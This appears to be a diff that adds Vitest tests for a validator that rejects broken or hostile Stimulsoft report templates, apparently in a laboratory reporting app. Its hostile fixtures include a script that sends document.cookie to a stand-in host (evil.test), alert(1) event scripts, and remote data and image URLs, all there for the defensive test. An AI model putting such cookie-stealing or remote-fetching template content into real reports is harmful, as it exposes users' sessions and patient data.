@@ -1,0 +1,198 @@
+import { readFile } from 'node:fs/promises';
+
+import { describe, expect, it } from 'vitest';
+
+import { readMrt } from '@/reporting/stimulsoft/mrt-source';
+import { templateFamilies, templateProblem } from '@/reporting/stimulsoft/scan-template';
+import { readTemplateFile } from '@/reporting/stimulsoft/template-tree';
+
+const FILE = 'reports.mrt';
+const bytes = (text: string) => new TextEncoder().encode(text);
+
+function problemOf(content: Uint8Array<ArrayBuffer>): string {
+  try {
+    readMrt(content, FILE);
+  } catch (cause) {
+    return cause instanceof Error ? cause.message : 'no error';
+  }
+  return 'harmless';
+}
+
+/** A JSON template with changes to its only page and its dictionary. */
+function template(page: object, rest: object = {}): string {
+  const first = { Ident: 'StiPage', Name: 'Page1', Guid: 'a1', ...page };
+  return JSON.stringify({ ReportName: 'reports', ...rest, Pages: { 0: first } });
+}
+
+const xml = (inner: string) => `<?xml version="1.0" encoding="utf-8" standalone="yes"?>
+<StiSerializer version="1.02" type="Net" application="StiReport">
+  <!-- Diseño del laboratorio -->
+  <Pages isList="true" count="1">
+    <Page1 Ref="2" type="Page" isKey="true"><Name>Page1</Name>${inner}</Page1>
+  </Pages>
+</StiSerializer>`;
+
+const text = (fields: object) => ({ Components: { 0: { Ident: 'StiText', ...fields } } });
+const nested = (depth: number): string => '{"a":'.repeat(depth) + '1' + '}'.repeat(depth);
+
+describe('a broken template is named, not drawn (G9)', () => {
+  it.each<[string, Uint8Array<ArrayBuffer>, string]>([
+    ['an empty file', bytes(''), 'JSON, XML'],
+    ['the host page instead', bytes('<!doctype html><html><body></body></html>'), 'JSON, XML'],
+    ['JSON cut off', bytes(template({}).slice(0, -3)), 'JSON, XML'],
+    ['XML cut off', bytes(xml('').slice(0, -20)), 'JSON, XML'],
+    ['XML that closes another element', bytes(xml('<A></B>')), 'JSON, XML'],
+    ['XML with a bare <', bytes(xml('<Text>resultado < 5</Text>')), 'JSON, XML'],
+    ['a packed template', bytes('UEsDBBQAAAAIAA=='), 'JSON, XML'],
+    ['a list', bytes('[]'), 'JSON, XML'],
+    ['no pages', bytes('{"ReportName":"reports"}'), 'Pages'],
+    ['an empty list of pages', bytes('{"Pages":{}}'), 'Pages'],
+    ['endless nesting', bytes(nested(5000)), 'JSON, XML'],
+    ['another encoding', Uint8Array.from([0x7b, 0xff, 0xfe, 0x7d]), 'UTF-8'],
+    ['a file of six megabytes', new Uint8Array(6_000_000), '> 5000000 bytes'],
+  ])('%s', (_, content, detail) => {
+    expect(problemOf(content)).toBe(`${FILE}: invalid ${detail}`);
+  });
+});
+
+describe('a hostile template is named, not drawn (G9)', () => {
+  const event = { Value: 'fetch("https://evil.test?" + document.cookie)' };
+  const subReport = (page: string) => ({
+    Components: { 0: { Ident: 'StiSubReport', SubReportPageGuid: page } },
+  });
+  it.each<[string, string, string]>([
+    ['a script on a text', template(text({ BeforePrintEvent: event })), 'BeforePrintEvent'],
+    ['a script of the report', template({}, { BeginRenderEvent: event }), 'BeginRenderEvent'],
+    ['a script in another case', template(text({ getvalueEVENT: event })), 'getvalueEVENT'],
+    [
+      'a script in XML',
+      xml('<T><BeforePrintEvent>alert(1)</BeforePrintEvent></T>'),
+      'BeforePrintEvent',
+    ],
+    [
+      'a script in XML, marked as data',
+      xml('<T><GetValueEvent><![CDATA[alert(1)]]></GetValueEvent></T>'),
+      'GetValueEvent',
+    ],
+    ['a JavaScript program', template({}, { ScriptLanguage: 'JS', Script: 'run()' }), 'Script'],
+    [
+      'a database',
+      template({}, { Dictionary: { Databases: { 0: { Ident: 'StiSqlDatabase' } } } }),
+      'StiSqlDatabase',
+    ],
+    [
+      'a database in XML',
+      xml('<D type="Stimulsoft.Report.Dictionary.StiMySqlDatabase" isKey="true" />'),
+      'StiMySqlDatabase',
+    ],
+    [
+      'a query',
+      template({}, { Dictionary: { DataSources: { 0: { Ident: 'StiSqlSource' } } } }),
+      'StiSqlSource',
+    ],
+    [
+      'a service as data',
+      template(
+        {},
+        {
+          Dictionary: {
+            Databases: { 0: { Ident: 'StiJsonDatabase', PathData: 'https://evil.test/x.json' } },
+          },
+        },
+      ),
+      'PathData',
+    ],
+    [
+      'a remote picture',
+      template(text({ ImageURL: { Value: 'https://evil.test/pixel.png' } })),
+      'ImageURL',
+    ],
+    [
+      'a picture whose address holds patient data',
+      template(text({ ImageURL: { Value: '{order.imagen}' } })),
+      'ImageURL',
+    ],
+    [
+      'a packed report inside',
+      template(text({ SubReportUrl: { Value: 'resource://inner' } })),
+      'SubReportUrl',
+    ],
+    ['a page inside itself', template(subReport('a1')), 'SubReportPage'],
+    [
+      'two pages inside each other',
+      JSON.stringify({
+        Pages: {
+          0: { Name: 'One', Guid: 'a1', ...subReport('b2') },
+          1: { Name: 'Two', Guid: 'b2', ...subReport('One') },
+        },
+      }),
+      'SubReportPage',
+    ],
+  ])('%s', (_, content, detail) => {
+    expect(problemOf(bytes(content))).toBe(`${FILE}: invalid ${detail}`);
+  });
+});
+
+describe('a harmless template passes', () => {
+  it.each<[string, string]>([
+    ['events without a script', template(text({ BeforePrintEvent: { Value: ' ' } }))],
+    [
+      'sample data of the designer',
+      template(
+        {},
+        {
+          Dictionary: {
+            Databases: {
+              0: { Ident: 'StiJsonDatabase', PathData: String.raw`C:\informes\demo.json` },
+            },
+            DataSources: { 0: { Ident: 'StiDataTableSource', NameInSource: 'informes.order' } },
+          },
+        },
+      ),
+    ],
+    ['a picture of the template', template(text({ ImageURL: { Value: 'resource://logo' } }))],
+    ['an address in a text', template(text({ Text: { Value: 'https://laboratorio.test' } }))],
+    ['the designer’s C# program', template({}, { ScriptLanguage: 'CSharp', Script: 'using X;' })],
+    [
+      'a sub-report',
+      JSON.stringify({
+        Pages: {
+          0: { Name: 'One', Guid: 'a1', Components: { 0: { SubReportPageGuid: 'b2' } } },
+          1: { Name: 'Two', Guid: 'b2' },
+        },
+      }),
+    ],
+    [
+      'XML with accents and entities',
+      xml('<Médico1 type="Text"><Text>A &lt; &#243; {order.orderNumber}</Text></Médico1>'),
+    ],
+    ['a byte order mark', `\ufeff${template({})}`],
+  ])('%s', (_, content) => {
+    expect(problemOf(bytes(content))).toBe('harmless');
+  });
+
+  it('is handed on without doubled keys that the scan did not see', () => {
+    const doubled = '{"BeginRenderEvent":"run()","BeginRenderEvent":"","Pages":{"0":{"Name":"P"}}}';
+    expect(readMrt(bytes(doubled), FILE).text).not.toContain('run()');
+  });
+
+  it('reads XML as it is written', () => {
+    const root = readTemplateFile(xml('<T><Text>A &lt; &#243; &amp;lt;</Text></T>'))?.root;
+    expect(JSON.stringify(root)).toContain('A < ó &lt;');
+  });
+});
+
+it('names the typefaces of a template', () => {
+  const json = readTemplateFile(
+    template({ Components: { 0: { Font: 'Verdana;8;Bold;' }, 1: { Font: ';;Bold;' } } }),
+  );
+  const old = readTemplateFile(xml('<T><Font>Times New Roman,8.25,Bold</Font></T>'));
+  expect(json && templateFamilies(json.root)).toEqual(['Arial', 'Verdana']);
+  expect(old && templateFamilies(old.root)).toEqual(['Arial', 'Times New Roman']);
+});
+
+it('finds nothing in the template that ships (G9)', async () => {
+  const shipped = readMrt(new Uint8Array(await readFile('reports/reports.mrt')), FILE);
+  expect(templateProblem(shipped.root)).toBeNull();
+  expect(templateFamilies(shipped.root)).toEqual(['Arial']);
+});
